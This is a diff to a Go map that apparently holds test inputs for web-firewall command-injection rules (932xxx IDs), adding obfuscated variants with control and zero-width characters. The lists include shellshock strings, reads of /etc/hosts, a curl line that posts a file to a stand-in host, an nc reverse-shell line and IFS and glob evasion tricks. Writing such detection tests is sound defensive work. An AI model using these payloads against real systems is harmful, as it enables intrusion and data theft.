@@ -17,17 +17,17 @@ var commands = map[int][]string{
 	932171: {"() { :;}; id"},
 	932230: {"() { :;}; /bin/sh -c id", ";gcc12.2<<<x", ";c89 -wrapper sh,-c,id .", "time sh -c id", "nohup sh -c id", ";env --version", "a; sh -c 'id'", "sudo sh -c id"},
 	932235: {
-		"x; sleep 4", "x && ifconfig", "Is && ifconfig the one, or not?", "We asked ; sleep 7 and waited.", "| netstat -an", "; cat /etc/hosts", "a|wget http://h.example/x",
+		"x; sleep 4", "https://a; env #", "\x01;env\x00", "\u200bx; ls -l\u00a0", "x && ifconfig", "Is && ifconfig the one, or not?", "We asked ; sleep 7 and waited.", "| netstat -an", "; cat /etc/hosts", "a|wget http://h.example/x",
 		"x || curl -d @a http://h.example", "x;find /srv -name a -exec cat {} +", ";perf --version", ";column -b file", "time ifconfig", "strace ifconfig", ";trap 'rm a' EXIT",
 		"time; ansible all -m ping", `"; c'a't /etc/hosts`, `; c\at /etc/hosts`, "; ca$@t /etc/hosts", "; cat$IFS/etc/hosts", "; cat${IFS}/etc/hosts", "; /usr/bin/id", "; /???/c?t /etc/hosts",
 		"; X=1 wget http://h.example", "; sudo -u root id -u", `x" || echo db 00 01 02 03 04 05 06 >> f`, `| echo "content-type: a/b"`, "x||CMD=$'{cmd}';$CMD", "x\nwget http://h.example/a",
 		"; cat </etc/hosts", "It is ; cat /etc/hosts that we talked about at lunch.", "a%3Bcat%20/etc/hosts", `q="sleep 9 #`, "; ping -c 3 192.0.2.1", "&& whoami", "a&&nc -e /bin/sh h.example 1",
 	},
-	932250: {"ls -l /etc", "ls a b", "ksh -c x", "aa-disable x"},
+	932250: {"ls -l /etc", "ls a b", "\x7f\x1b[1mls -l /etc\x1b[0m", "ksh -c x", "aa-disable x"},
 	932260: {"gunzip -c /var/log/a.gz", "python3.11 x", "ansible-config dump", "chef-shell", "whoami;0", "time bsdtar", "printf x|base64 -d|sh", "netstat"},
 	932270: {"~+", "~-", "~-1", "~+5", "echo ~-", "a=~+/b"},
-	932280: {"{,id}", "{cat,/etc/hosts}", "l{s,}", "{l,-lh}s", "c{a,oun}t", "We read about {,ip,a} instead.", "{,ifconfig,eth0}", "{id,}"},
-	932330: {"!-1", "!-1!-2", "a; !-3", "echo '!-0'"},
+	932280: {"{,id}", "{cat,/etc/hosts}", "l{s,}", "{l,-lh}s", "c{a,oun}t", "We read about {,ip,a} instead.", "{,ifconfig,eth0}", "{id,}", "\u200b{l,-lh}s\u00a0"},
+	932330: {"!-1", "!-1!-2", "\x01!-1!-2", "a; !-3", "echo '!-0'"},
 	932340: {";ps", ";env", ";set", "&aptitude", "x.php?cmd=ls", ";whoami", "|id", "|id|"},
 }
 
